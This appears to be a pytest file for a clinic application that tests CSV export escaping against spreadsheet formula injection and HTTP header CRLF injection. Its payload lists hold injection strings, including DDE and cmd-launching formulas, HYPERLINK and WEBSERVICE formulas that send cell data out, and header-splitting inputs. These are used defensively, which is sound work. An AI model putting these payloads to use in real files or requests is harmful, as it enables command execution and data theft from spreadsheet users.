"""T-21: nothing in a cell or a header is more than a value."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pytest

from app.data.import_mapping import builtin_mapping
from app.db.engine.engine import Database
from app.domain.csv_safety import marked, unmarked
from app.services.imports import imports
from tests.support.clinic import Clinic, a_clinic

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
PAYLOADS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    '=HYPERLINK("//example.invalid/?"&A1,"look")',
    '=DDE("cmd";"/C calc";"x")',
    "=WEBSERVICE(CONCATENATE(A1,B1))",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Larsen;=cmd|' /C calc'!A0",
    'Larsen;"=1+1',
    "Larsen; =1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    '",=1+1,"',
]
WHOLE = ["Larsen", "O'Brien", "Smith-Jones", 'Ann "Nan"', "Ana, B.", "a;b", "1-2", "'Aziz"]


@pytest.fixture
def clinic(sqlite: Database) -> Iterator[Clinic]:
    with a_clinic(sqlite) as made:
        yield made


def back(cell: str) -> str:
    """The value of a cell: one apostrophe is taken from before whatever could be a formula."""
    return re.sub(rf"(^|;)'(?=[\"' ]*[{SIGNS}\t\r\n])", r"\1", cell)


@pytest.mark.parametrize("value", [*PAYLOADS, "\t=1", "\r=1", "\n=1", "\t", "a;\t=1"])
def test_what_would_run_is_marked_and_can_be_had_back(value: str) -> None:
    told = marked(value)
    assert back(told) == value
    # However the line is parted, no cell begins as a formula does, quotes taken off or not.
    for part in [told, *told.split(";")]:
        assert not part.lstrip("\"' ").startswith((*SIGNS, "\t", "\r", "\n")) or part[0] == "'"


@pytest.mark.parametrize("value", WHOLE)
def test_what_would_not_run_stays(value: str) -> None:
    assert marked(value) == value


def test_every_text_of_the_worklist(clinic: Clinic) -> None:
    place = clinic.a_location(name="=1+1")["id"]
    person = clinic.a_practitioner(name='=HYPERLINK("x")')["id"]
    sent = {}
    for payload in [*PAYLOADS, *WHOLE]:
        text = payload[:40]
        patient = clinic.a_patient(mrn=text, family_name=payload, given_name=payload, phone=text)
        course = clinic.a_course(patient_id=patient["id"])
        clinic.a_session(course["id"], "2026-01-05", location_id=place, practitioner_id=person)
        sent[course["id"]] = (text, payload)
    content = clinic.call("GET", "/worklist.csv").text
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert {row["course_id"] for row in rows} == set(sent)
    for row in rows:
        text, payload = sent[row["course_id"]]
        assert (back(row["mrn"]), back(row["phone"])) == (text, text)
        assert (back(row["family_name"]), back(row["given_name"])) == (payload, payload)
        assert (row["location"], row["practitioner"]) == ("'=1+1", '\'=HYPERLINK("x")')
        for cell in row.values():
            assert not cell.startswith(tuple(SIGNS))
    # As a spreadsheet reads it where the semicolon parts the cells.
    for line in content.splitlines():
        for cell in line.split(";"):
            assert not cell.strip('"').startswith(tuple(SIGNS))
    print(f"\n{len(PAYLOADS)} payloads in 6 columns")


def test_every_cell_of_refused_rows(clinic: Clinic) -> None:
    heads = "MRN,Last name,First name,DOB,Treated on,Units"
    file = io.StringIO()
    writer = csv.writer(file)
    for payload in PAYLOADS:
        writer.writerow([payload, payload, payload, "1980-01-01", "=nonsense", "155"])
    content = f"{heads}\r\n{file.getvalue()}"
    with clinic.database.write(clinic.practice_id) as db:
        report = imports.load_history(
            db,
            content=content,
            mapping=builtin_mapping(),
            dry_run=True,
            by=clinic.by,
            now=clinic.clock(),
        )
    told = imports.rejected_csv(report.rejected, content)
    rows = list(csv.reader(io.StringIO(told, newline="")))[1:]
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        assert not any(cell.startswith(tuple("=+-@＝＋－＠")) for cell in row)
        # As the worklist has it, but that a cell which was marked when it came keeps one mark.
        assert row[0] == marked(unmarked(payload))


CRLF = [
    "a\r\nSet-Cookie: a=b",
    "a\nX-Injected: 1",
    "a\rX-Injected: 1",
    "a\r\n\r\n<p>",
    "%0d%0aX: 1",
]


@pytest.mark.parametrize("sent", CRLF)
def test_no_line_end_gets_into_a_header(clinic: Clinic, sent: str) -> None:
    answers = [
        clinic.call("GET", "/me", x_request_id=sent),
        clinic.call("GET", "/patients", if_none_match=sent),
        clinic.call("POST", "/locations", {"name": "x", "time_zone": "UTC"}, idempotency_key=sent),
        clinic.client.get("/v1/patients", params={"q": sent, "limit": 1}),
        clinic.client.get("/" + sent.replace("\r", "%0d").replace("\n", "%0a")),
        clinic.call("POST", "/protocols", {"code": sent, "name": sent}),
        clinic.call("POST", "/patients", {"mrn": sent, "family_name": sent}),
    ]
    for answer in answers:
        assert answer.status_code < 500
        for name, value in answer.headers.items():
            assert "\r" not in value
            assert "\n" not in value
            assert name not in ("set-cookie", "x-injected", "x")
    assert answers[0].headers["x-request-id"] != sent


def test_the_link_of_a_page_holds_what_was_asked_encoded(clinic: Clinic) -> None:
    for _ in range(2):
        clinic.a_patient(family_name='A>;rel="x", <')
    answer = clinic.call("GET", "/patients?limit=1&q=%3E%3Brel%3D%22x%22")
    link = answer.headers["link"]
    assert link.count(">") == link.count("<") == 1
    assert link.count("rel=") == 1
